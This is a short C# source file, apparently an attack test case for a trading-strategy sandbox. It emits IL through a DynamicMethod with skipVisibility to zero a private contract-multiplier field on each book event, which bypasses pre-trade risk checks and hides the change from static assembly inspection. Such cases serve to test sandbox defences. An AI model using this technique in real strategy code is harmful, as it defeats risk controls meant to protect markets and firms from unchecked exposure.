// Abuses: DynamicMethod with skipVisibility: code that no check of the assembly ever sees.
// Harm: anything; here it stores 0 into the private multiplier field.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Reflection;
using System.Reflection.Emit;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.DynamicMethodAttack;

public sealed class DynamicMethodStrategy : Attacker
{
    private readonly Action<Instrument> _zero;

    public DynamicMethodStrategy()
    {
        var method = new DynamicMethod("zero", null, [typeof(Instrument)], typeof(Instrument), skipVisibility: true);
        ILGenerator code = method.GetILGenerator();
        code.Emit(OpCodes.Ldarg_0);
        code.Emit(OpCodes.Ldc_I8, 0L);
        code.Emit(OpCodes.Stfld, typeof(Instrument).GetField("<ContractMultiplier>k__BackingField", BindingFlags.NonPublic | BindingFlags.Instance)!);
        code.Emit(OpCodes.Ret);
        _zero = method.CreateDelegate<Action<Instrument>>();
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        _zero(Context.Instrument(bookEvent.Instrument));
        Act(1);
    }
}
